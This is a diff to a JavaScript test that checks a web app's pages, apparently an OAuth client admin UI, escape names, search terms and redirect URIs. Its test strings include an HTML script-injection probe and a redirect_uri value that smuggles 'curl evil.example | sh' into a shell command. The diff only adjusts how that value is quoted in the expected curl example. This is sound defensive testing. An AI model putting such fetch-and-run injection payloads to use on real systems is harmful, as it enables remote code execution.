@@ -59,7 +59,7 @@ test('names, labels, events and redirect URIs are escaped on each page', async (
   const search = await open(`?search=${encodeURIComponent('"><script>')}`);
   t.true(search.html.includes('value="&#34;&gt;&lt;script&gt;"'));
   // For a shell, in the curl example.
-  const quoted = String.raw`--data-urlencode 'redirect_uri=https://a.example/cb?a='\'';curl$IFS'\''evil.example'\''|sh;'\'''`;
+  const quoted = String.raw`--data-urlencode redirect_uri='https://a.example/cb?a='\'';curl$IFS'\''evil.example'\''|sh;'\'''`;
   t.true((await open(`/${client.id}`)).text.includes(quoted));
 });
 
